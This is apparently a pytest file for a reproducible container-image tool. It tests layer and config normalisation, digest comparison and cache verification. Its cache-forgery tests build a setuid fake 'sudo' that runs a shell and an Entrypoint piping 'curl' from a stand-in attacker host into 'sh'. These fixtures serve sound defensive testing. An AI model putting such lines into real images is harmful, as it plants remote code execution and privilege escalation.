"""Normalised images: configs and layers without build times, and what reproduce and publish
conclude from their digests. Layers are tars built in memory; nothing talks to an engine."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import random
import tarfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from buildbox.digests import canonical_json, digest_of
from buildbox.errors import BuildboxError
from buildbox.oci.documents import OCI_CONFIG, OCI_INDEX, OCI_LAYER_GZIP, OCI_MANIFEST
from buildbox.oci.image import Layer, PreparedImage, normalise_config, normalise_layer, prepare
from buildbox.oci.push import PlatformImage, Published, tag_state, top_manifest
from buildbox.release.reproduce import (
    DIFFERENT,
    IDENTICAL,
    SAME_CONTENT,
    Outcome,
    PlatformVerdict,
    judge,
)

EPOCH = 1_700_000_000
EPOCH_TEXT = "2023-11-14T22:13:20Z"
#: Builds happen after the source time: the engine stamps files with "now".
BUILD_TIME = EPOCH + 86_400
#: ``cap_net_bind_service=ep`` as the kernel stores it (binary, with NULs).
CAPABILITY = bytes.fromhex("0100000200040000000000000000000000000000")
XATTR = "SCHILY.xattr.security.capability"


@dataclass(frozen=True)
class Entry:
    """One member of a layer tar to build."""

    name: str
    content: bytes | None = None  # None: a directory (or a link when ``link`` is set)
    mode: int = 0o644
    mtime: float = BUILD_TIME
    uid: int = 0
    gid: int = 0
    uname: str = "root"
    gname: str = "root"
    hardlink: str = ""
    pax: dict[str, str] = field(default_factory=dict)


def layer_tar(entries: list[Entry]) -> bytes:
    """A PAX layer tar with ``entries`` in the given order, as an engine might write it."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for entry in entries:
            info = tarfile.TarInfo(entry.name)
            info.mode, info.mtime = entry.mode, entry.mtime
            info.uid, info.gid, info.uname, info.gname = (
                entry.uid,
                entry.gid,
                entry.uname,
                entry.gname,
            )
            info.pax_headers = dict(entry.pax)
            if entry.hardlink:
                info.type, info.linkname = tarfile.LNKTYPE, entry.hardlink
                archive.addfile(info)
            elif entry.content is None:
                info.type = tarfile.DIRTYPE
                archive.addfile(info)
            else:
                info.size = len(entry.content)
                archive.addfile(info, io.BytesIO(entry.content))
    return buffer.getvalue()


def text(size: int, seed: str) -> bytes:
    """Compressible but not trivial bytes: gzip levels give different output for it."""
    words = ["alpha", "beta", "gamma", "delta", "tool", "usr", "bin", "lib", "share", "1.0"]
    rng = random.Random(seed)
    return " ".join(rng.choice(words) for _ in range(size // 5)).encode()[:size]


ENTRIES = [
    Entry("opt", mode=0o755),
    Entry("opt/tool", mode=0o755),
    Entry("opt/tool/bin", mode=0o755),
    Entry("opt/tool/bin/tool", b"#!/bin/sh\necho tool 1.0\n", mode=0o755, uid=1000, gid=1001),
    Entry("opt/tool/share.txt", text(200_000, "share")),
    Entry(
        "usr/local/bin/ping",
        b"ELF",
        mode=0o4755,
        pax={XATTR: CAPABILITY.decode("utf-8", "surrogateescape")},
    ),
    Entry("opt/tool/bin/alias", hardlink="opt/tool/bin/tool"),
]


def normalise(entries: list[Entry], layers_dir: Path, level: int = 6) -> Layer:
    layers_dir.mkdir(parents=True, exist_ok=True)
    return normalise_layer(io.BytesIO(layer_tar(entries)), layers_dir, EPOCH, level=level)


def members(layer: Layer) -> list[tarfile.TarInfo]:
    with tarfile.open(fileobj=io.BytesIO(gzip.decompress(layer.path.read_bytes()))) as archive:
        return archive.getmembers()


def contents(layer: Layer) -> dict[str, bytes]:
    found = {}
    with tarfile.open(fileobj=io.BytesIO(gzip.decompress(layer.path.read_bytes()))) as archive:
        for member in archive.getmembers():
            extracted = archive.extractfile(member) if member.isfile() else None
            if extracted is not None:
                found[member.name] = extracted.read()
    return found


# --- normalise_layer ------------------------------------------------------------------------


def test_layer_entries_are_in_name_order_with_hard_links_last(tmp_path: Path) -> None:
    shuffled = [ENTRIES[i] for i in (6, 4, 0, 5, 3, 1, 2)]
    names = [m.name for m in members(normalise(shuffled, tmp_path))]
    assert names == [
        "opt",
        "opt/tool",
        "opt/tool/bin",
        "opt/tool/bin/tool",
        "opt/tool/share.txt",
        "usr/local/bin/ping",
        "opt/tool/bin/alias",  # a hard link comes after its target, even if its name sorts first
    ]


def test_hard_link_target_and_contents_survive(tmp_path: Path) -> None:
    layer = normalise(ENTRIES, tmp_path)
    [alias] = [m for m in members(layer) if m.name == "opt/tool/bin/alias"]
    assert alias.islnk()
    assert alias.linkname == "opt/tool/bin/tool"
    found = contents(layer)
    assert found["opt/tool/bin/tool"] == b"#!/bin/sh\necho tool 1.0\n"
    assert found["opt/tool/share.txt"] == ENTRIES[4].content


def test_times_after_the_epoch_are_clamped_and_older_ones_kept(tmp_path: Path) -> None:
    old = EPOCH - 10 * 365 * 86_400
    layer = normalise(
        [
            Entry("new", b"n", mtime=BUILD_TIME),
            Entry("old", b"o", mtime=old),
            Entry("fraction", b"f", mtime=EPOCH + 0.5),
        ],
        tmp_path,
    )
    times = {m.name: m.mtime for m in members(layer)}
    assert times == {"fraction": EPOCH, "new": EPOCH, "old": old}


def test_owner_names_go_ids_and_modes_stay(tmp_path: Path) -> None:
    layer = normalise(ENTRIES, tmp_path)
    by_name = {m.name: m for m in members(layer)}
    tool = by_name["opt/tool/bin/tool"]
    assert (tool.uid, tool.gid, tool.mode) == (1000, 1001, 0o755)
    assert by_name["usr/local/bin/ping"].mode == 0o4755
    assert by_name["opt/tool/share.txt"].mode == 0o644
    assert {(m.uname, m.gname) for m in by_name.values()} == {("", "")}


def test_extended_attributes_stay_other_pax_headers_go(tmp_path: Path) -> None:
    pax = {
        XATTR: CAPABILITY.decode("utf-8", "surrogateescape"),
        "SCHILY.xattr.user.note": "kept",
        "atime": str(BUILD_TIME + 5),
        "ctime": str(BUILD_TIME + 6),
        "LIBARCHIVE.creationtime": str(BUILD_TIME),
        "comment": "built on host-1234",
    }
    layer = normalise([Entry("bin/ping", b"ELF", pax=pax)], tmp_path)
    [ping] = members(layer)
    assert ping.pax_headers == {XATTR: pax[XATTR], "SCHILY.xattr.user.note": "kept"}
    assert ping.pax_headers[XATTR].encode("utf-8", "surrogateescape") == CAPABILITY
    raw = gzip.decompress(layer.path.read_bytes())
    assert b"host-1234" not in raw
    assert b"atime" not in raw
    assert b"ctime" not in raw


def test_member_order_does_not_change_the_layer(tmp_path: Path) -> None:
    first = normalise(ENTRIES, tmp_path / "a")
    second = normalise(list(reversed(ENTRIES)), tmp_path / "b")
    assert first.diff_id == second.diff_id
    assert first.digest == second.digest
    assert first.path.read_bytes() == second.path.read_bytes()


def test_build_time_and_owner_names_do_not_change_the_layer(tmp_path: Path) -> None:
    first = normalise([Entry("f", b"x", mtime=BUILD_TIME, uname="root")], tmp_path / "a")
    second = normalise([Entry("f", b"x", mtime=BUILD_TIME + 99, uname="builder")], tmp_path / "b")
    assert (first.diff_id, first.digest) == (second.diff_id, second.digest)


@pytest.mark.parametrize(
    "change",
    [
        Entry("f", b"y"),  # content
        Entry("f", b"x", mode=0o755),
        Entry("f", b"x", uid=1),
        Entry("f", b"x", mtime=EPOCH - 1),  # a time before the epoch is content
        Entry("g", b"x"),  # path
        Entry("f", b"x", pax={"SCHILY.xattr.user.x": "1"}),
    ],
)
def test_what_a_layer_holds_changes_its_diff_id(tmp_path: Path, change: Entry) -> None:
    before = normalise([Entry("f", b"x")], tmp_path / "a")
    after = normalise([change], tmp_path / "b")
    assert before.diff_id != after.diff_id
    assert before.digest != after.digest


def test_digests_describe_the_written_file(tmp_path: Path) -> None:
    layer = normalise(ENTRIES, tmp_path / "layers")
    data = layer.path.read_bytes()
    assert layer.digest == digest_of(data)
    assert layer.size == len(data)
    assert layer.diff_id == digest_of(gzip.decompress(data))
    assert layer.descriptor.as_dict() == {
        "mediaType": OCI_LAYER_GZIP,
        "digest": layer.digest,
        "size": layer.size,
    }


def test_layer_and_its_facts_are_written_into_the_layers_dir(tmp_path: Path) -> None:
    layers_dir = tmp_path / "layers"
    layer = normalise(ENTRIES, layers_dir, level=6)
    stem = layer.diff_id.removeprefix("sha256:") + "-6-1024k"
    assert layer.path == layers_dir / f"{stem}.tar.gz"
    assert json.loads((layers_dir / f"{stem}.json").read_text()) == {
        "digest": layer.digest,
        "size": layer.size,
    }
    assert sorted(p.name for p in layers_dir.iterdir()) == [f"{stem}.json", f"{stem}.tar.gz"]


def test_gzip_header_has_no_time_and_no_name(tmp_path: Path) -> None:
    data = normalise(ENTRIES, tmp_path).path.read_bytes()
    assert data[:3] == b"\x1f\x8b\x08"
    assert data[3] == 0  # flags: no file name, no comment
    assert data[4:8] == b"\0\0\0\0"  # mtime


def test_other_compression_level_other_digest_same_diff_id(tmp_path: Path) -> None:
    fast = normalise(ENTRIES, tmp_path, level=1)
    best = normalise(ENTRIES, tmp_path, level=9)
    assert fast.diff_id == best.diff_id
    assert fast.digest != best.digest
    assert fast.path != best.path
    assert fast.path.is_file()
    assert best.path.is_file()
    assert gzip.decompress(fast.path.read_bytes()) == gzip.decompress(best.path.read_bytes())


# --- normalise_config -----------------------------------------------------------------------

DIFF_IDS = ["sha256:" + "1" * 64, "sha256:" + "2" * 64]


def engine_config() -> dict[str, Any]:
    """An image config as ``docker save`` writes it for a classic build."""
    return {
        "architecture": "amd64",
        "os": "linux",
        "created": "2024-05-06T07:08:09.123456789Z",
        "docker_version": "26.1.0",
        "container": "4f0e2b1c9a8d",
        "container_config": {"Hostname": "4f0e2b1c9a8d", "Cmd": ["/bin/sh", "-c", "#(nop)"]},
        "config": {
            "Hostname": "4f0e2b1c9a8d",
            "Image": "sha256:" + "9" * 64,
            "Env": ["PATH=/opt/tool/bin:/usr/bin", "LANG=C.UTF-8"],
            "Labels": {"org.buildbox.box": "demo", "org.buildbox.version": "1"},
            "Entrypoint": ["/bin/sh"],
        },
        "history": [
            {"created": "2024-01-01T00:00:00Z", "created_by": "/bin/sh -c #(nop) ADD file:abc"},
            {
                "created": "2024-05-06T07:08:09Z",
                "created_by": "COPY /staging/ /",
                "empty_layer": False,
            },
        ],
        "rootfs": {"type": "layers", "diff_ids": ["sha256:" + "e" * 64]},
    }


def normalised(raw: dict[str, Any], diff_ids: list[str] = DIFF_IDS) -> dict[str, Any]:
    result: dict[str, Any] = json.loads(normalise_config(json.dumps(raw).encode(), diff_ids, EPOCH))
    return result


def test_config_times_are_the_source_time() -> None:
    config = normalised(engine_config())
    assert config["created"] == EPOCH_TEXT
    assert [h["created"] for h in config["history"]] == [EPOCH_TEXT, EPOCH_TEXT]


def test_config_drops_where_and_by_what_it_was_built() -> None:
    config = normalised(engine_config())
    for key in ("container", "container_config", "docker_version"):
        assert key not in config
    assert config["config"]["Hostname"] == ""
    assert "Image" not in config["config"]
    assert "4f0e2b1c9a8d" not in json.dumps(config)


def test_config_keeps_what_the_image_does() -> None:
    config = normalised(engine_config())
    original = engine_config()
    assert config["config"]["Env"] == original["config"]["Env"]
    assert config["config"]["Labels"] == original["config"]["Labels"]
    assert config["config"]["Entrypoint"] == ["/bin/sh"]
    assert [h["created_by"] for h in config["history"]] == [
        h["created_by"] for h in original["history"]
    ]
    assert config["history"][1]["empty_layer"] is False
    assert (config["architecture"], config["os"]) == ("amd64", "linux")


def test_config_names_the_normalised_layers() -> None:
    assert normalised(engine_config())["rootfs"] == {"type": "layers", "diff_ids": DIFF_IDS}


def test_config_is_canonical_bytes() -> None:
    raw = normalise_config(json.dumps(engine_config(), indent=4).encode(), DIFF_IDS, EPOCH)
    assert raw == canonical_json(json.loads(raw))
    assert list(json.loads(raw)) == sorted(json.loads(raw))


def test_config_of_two_builds_at_different_times_is_the_same() -> None:
    other = engine_config()
    other["created"] = "2030-01-01T00:00:00Z"
    other["container"] = "another-container"
    other["config"]["Hostname"] = "another-container"
    other["config"]["Image"] = "sha256:" + "8" * 64
    other["history"][1]["created"] = "2030-01-01T00:00:00Z"
    other["docker_version"] = "27.0.0"
    reordered = dict(reversed(list(other.items())))
    assert normalise_config(json.dumps(reordered).encode(), DIFF_IDS, EPOCH) == normalise_config(
        json.dumps(engine_config()).encode(), DIFF_IDS, EPOCH
    )


def test_config_without_a_config_section_or_history() -> None:
    config = normalised({"architecture": "arm64", "os": "linux"}, [])
    assert config == {
        "architecture": "arm64",
        "os": "linux",
        "created": EPOCH_TEXT,
        "rootfs": {"type": "layers", "diff_ids": []},
    }


# --- PreparedImage --------------------------------------------------------------------------


def prepared(tmp_path: Path, entries: list[Entry] = ENTRIES, level: int = 6) -> PreparedImage:
    layer = normalise(entries, tmp_path / "layers", level=level)
    config = normalise_config(json.dumps(engine_config()).encode(), [layer.diff_id], EPOCH)
    return PreparedImage(config, (layer,))


def test_prepared_image_manifest_names_config_and_layers(tmp_path: Path) -> None:
    image = prepared(tmp_path)
    manifest = json.loads(image.manifest)
    assert manifest["mediaType"] == OCI_MANIFEST
    assert manifest["config"] == {
        "mediaType": OCI_CONFIG,
        "digest": "sha256:" + hashlib.sha256(image.config).hexdigest(),
        "size": len(image.config),
    }
    assert manifest["layers"] == [image.layers[0].descriptor.as_dict()]


def test_prepared_image_digests(tmp_path: Path) -> None:
    image = prepared(tmp_path)
    assert image.digest == "sha256:" + hashlib.sha256(image.manifest).hexdigest()
    assert image.config_digest == "sha256:" + hashlib.sha256(image.config).hexdigest()
    assert image.digest != image.config_digest
    assert image.descriptor.as_dict() == {
        "mediaType": OCI_MANIFEST,
        "digest": image.digest,
        "size": len(image.manifest),
    }
    assert json.loads(image.config)["rootfs"]["diff_ids"] == [image.layers[0].diff_id]


def test_compression_changes_the_digest_not_the_config_digest(tmp_path: Path) -> None:
    fast, best = prepared(tmp_path, level=1), prepared(tmp_path, level=9)
    assert fast.config == best.config
    assert fast.config_digest == best.config_digest
    assert fast.digest != best.digest


# --- reproduce: judge and Outcome -------------------------------------------------------------


def test_judge_identical(tmp_path: Path) -> None:
    image = prepared(tmp_path)
    assert judge(image.digest, image.config_digest, image) == IDENTICAL
    assert judge(image.digest, None, image) == IDENTICAL


def test_judge_same_content_when_only_the_compression_differs(tmp_path: Path) -> None:
    published = prepared(tmp_path, level=9)
    rebuilt = prepared(tmp_path, level=1)
    assert rebuilt.digest != published.digest
    assert judge(published.digest, published.config_digest, rebuilt) == SAME_CONTENT
    assert SAME_CONTENT == "same content, other compression"


def test_judge_different_when_the_config_differs(tmp_path: Path) -> None:
    published = prepared(tmp_path / "published")
    changed = [*ENTRIES[:3], Entry("opt/tool/bin/tool", b"#!/bin/sh\necho tool 1.1\n")]
    rebuilt = prepared(tmp_path / "rebuilt", changed)
    assert judge(published.digest, published.config_digest, rebuilt) == DIFFERENT


def test_judge_different_when_the_config_is_unknown(tmp_path: Path) -> None:
    published = prepared(tmp_path, level=9)
    rebuilt = prepared(tmp_path, level=1)
    assert judge(published.digest, None, rebuilt) == DIFFERENT


def verdicts(*kinds: str) -> tuple[PlatformVerdict, ...]:
    platforms = ("linux/amd64", "linux/arm64", "linux/arm/v7")
    return tuple(
        PlatformVerdict(p, "sha256:" + "1" * 64, "sha256:" + "2" * 64, kind)
        for p, kind in zip(platforms, kinds, strict=False)
    )


RECORDED = "sha256:" + "a" * 64
OTHER = "sha256:" + "b" * 64


def outcome(rebuilt: str, in_registry: str | None, *kinds: str) -> Outcome:
    return Outcome(
        box="demo",
        version="1",
        recorded=RECORDED,
        in_registry=in_registry,
        rebuilt=rebuilt,
        epoch=EPOCH,
        platforms=verdicts(*kinds),
        networked=False,
    )


@pytest.mark.parametrize(
    ("rebuilt", "in_registry", "kinds", "bit_for_bit", "reproducible"),
    [
        (RECORDED, RECORDED, (IDENTICAL,), True, True),
        (RECORDED, RECORDED, (IDENTICAL, IDENTICAL), True, True),
        (OTHER, RECORDED, (SAME_CONTENT,), False, True),
        (OTHER, RECORDED, (IDENTICAL, SAME_CONTENT), False, True),
        (OTHER, RECORDED, (IDENTICAL, DIFFERENT), False, False),
        (OTHER, RECORDED, (DIFFERENT,), False, False),
        # The tag was moved in the registry: whatever the rebuild gives, it is not the release.
        (RECORDED, OTHER, (IDENTICAL,), False, False),
        (OTHER, OTHER, (SAME_CONTENT,), False, False),
        (RECORDED, None, (IDENTICAL,), False, False),
    ],
)
def test_outcome(
    rebuilt: str,
    in_registry: str | None,
    kinds: tuple[str, ...],
    bit_for_bit: bool,
    reproducible: bool,
) -> None:
    found = outcome(rebuilt, in_registry, *kinds)
    assert found.bit_for_bit is bit_for_bit
    assert found.reproducible is reproducible


def test_outcome_differences_name_the_platform() -> None:
    found = Outcome(
        box="demo",
        version="1",
        recorded=RECORDED,
        in_registry=RECORDED,
        rebuilt=OTHER,
        epoch=EPOCH,
        networked=False,
        platforms=(
            PlatformVerdict("linux/amd64", RECORDED, OTHER, IDENTICAL),
            PlatformVerdict("linux/arm64", RECORDED, OTHER, DIFFERENT, ("layer 1 differs",)),
        ),
    )
    assert found.differences == ("linux/arm64: layer 1 differs",)


# --- publish: the pure parts ----------------------------------------------------------------


def test_tag_state_absent_tag() -> None:
    assert tag_state("reg.example/demo:v1", None, RECORDED) is False


def test_tag_state_tag_already_names_this_release() -> None:
    assert tag_state("reg.example/demo:v1", RECORDED, RECORDED) is True


def test_tag_state_refuses_a_tag_naming_other_content() -> None:
    with pytest.raises(BuildboxError) as raised:
        tag_state("reg.example/demo:v1", OTHER, RECORDED)
    message = str(raised.value)
    assert "reg.example/demo:v1" in message
    assert OTHER in message
    assert RECORDED in message
    assert "bump" in message
    assert "The registry was not changed." in message


def platform_image(tmp_path: Path, platform: str, content: bytes) -> PlatformImage:
    image = prepared(tmp_path / platform.replace("/", "-"), [Entry("f", content)])
    return PlatformImage(platform, image, b"{}", f"demo-{platform}.cdx.json")


def test_top_manifest_of_one_platform_is_the_image_manifest(tmp_path: Path) -> None:
    only = platform_image(tmp_path, "linux/amd64", b"amd64")
    assert top_manifest([only]) == (only.image.manifest, OCI_MANIFEST)


def test_top_manifest_of_several_platforms_is_an_index(tmp_path: Path) -> None:
    amd64 = platform_image(tmp_path, "linux/amd64", b"amd64")
    arm64 = platform_image(tmp_path, "linux/arm64", b"arm64")
    raw, media_type = top_manifest([arm64, amd64])
    assert media_type == OCI_INDEX
    body = json.loads(raw)
    assert body["mediaType"] == OCI_INDEX
    assert [(m["platform"]["architecture"], m["digest"], m["size"]) for m in body["manifests"]] == [
        ("amd64", amd64.image.digest, len(amd64.image.manifest)),
        ("arm64", arm64.image.digest, len(arm64.image.manifest)),
    ]
    assert top_manifest([amd64, arm64])[0] == raw


def test_published_reference_pins_tag_and_digest() -> None:
    published = Published(
        "127.0.0.1:5000/buildbox/demo", "v1", RECORDED, {"linux/amd64": (OTHER, OTHER)}, True
    )
    assert published.reference == f"127.0.0.1:5000/buildbox/demo:v1@{RECORDED}"


# --- prepare: nothing is taken from the cache unverified ---------------------------------------
# The cache may be restored from elsewhere (a CI cache) or damaged: what is published must be
# what the engine's export holds, which verify and the SBOM saw.

IMAGE_ID = "sha256:" + "9" * 64


def docker_save(layers: list[bytes]) -> bytes:
    """A ``docker save`` stream of an image with ``layers`` (the legacy layout)."""
    config = engine_config()
    config["rootfs"]["diff_ids"] = [digest_of(layer) for layer in layers]
    files = {"config.json": json.dumps(config).encode()}
    files.update({f"{index}/layer.tar": layer for index, layer in enumerate(layers)})
    manifest = [{"Config": "config.json", "Layers": [f"{i}/layer.tar" for i in range(len(layers))]}]
    files["manifest.json"] = json.dumps(manifest).encode()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@dataclass
class CountingExport:
    """The engine's export of one image, counting how often it is read."""

    data: bytes
    calls: int = 0

    def __call__(self) -> list[bytes]:
        self.calls += 1
        return [self.data]


def forge_cached_layer(cache: Path, layer: Layer) -> None:
    """Replace a cached layer with other content, its facts written to match (a forgery, not
    damage): only re-hashing against what the export holds finds it."""
    evil = gzip.compress(layer_tar([Entry("usr/bin/sudo", b"#!/bin/sh\nexec sh\n", mode=0o4755)]))
    layer.path.write_bytes(evil)
    facts = layer.path.with_name(layer.path.name.removesuffix(".tar.gz") + ".json")
    facts.write_text(json.dumps({"digest": digest_of(evil), "size": len(evil)}))


def test_prepare_a_forged_cached_layer_is_not_published(tmp_path: Path) -> None:
    motd = layer_tar([Entry("etc/motd", b"hi")])
    export = CountingExport(docker_save([layer_tar(ENTRIES), motd]))
    first = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH)
    forge_cached_layer(tmp_path / "cache", first.layers[0])
    said: list[str] = []
    again = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH, log=said.append)
    assert again.digest == first.digest, "a forged cache entry changed the published digest"
    assert export.calls == 2
    assert [layer.digest for layer in again.layers] == [layer.digest for layer in first.layers]
    assert gzip.decompress(again.layers[0].path.read_bytes()) == gzip.decompress(
        normalise(ENTRIES, tmp_path / "fresh").path.read_bytes()
    )
    [line] = said
    assert line.startswith(f"cached layer {first.layers[0].diff_id} ")
    assert "compressing it again" in line


def test_prepare_a_damaged_cached_layer_is_compressed_again(tmp_path: Path) -> None:
    export = CountingExport(docker_save([layer_tar(ENTRIES)]))
    first = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH)
    first.layers[0].path.write_bytes(first.layers[0].path.read_bytes()[:-100])
    said: list[str] = []
    again = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH, log=said.append)
    assert again.digest == first.digest
    assert len(said) == 1


def test_prepare_a_forged_cached_config_is_not_published(tmp_path: Path) -> None:
    export = CountingExport(docker_save([layer_tar(ENTRIES)]))
    first = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH)
    forged = json.loads(first.config)
    forged["config"]["Entrypoint"] = ["/bin/sh", "-c", "curl -s https://evil.invalid | sh"]
    for where in (tmp_path / "cache").rglob("*.json"):
        if json.loads(where.read_text()).get("rootfs"):  # a cached config, if there is one
            where.write_bytes(canonical_json(forged))
    again = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH)
    assert again.config == first.config
    assert again.digest == first.digest


def test_prepare_reuses_a_verified_cached_layer_without_compressing(tmp_path: Path) -> None:
    export = CountingExport(docker_save([layer_tar(ENTRIES)]))
    first = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH)
    written = first.layers[0].path.stat().st_mtime_ns
    again = prepare(export, IMAGE_ID, tmp_path / "cache", EPOCH, log=pytest.fail)
    assert again.digest == first.digest
    assert again.layers[0].path.stat().st_mtime_ns == written  # the cached bytes, reused
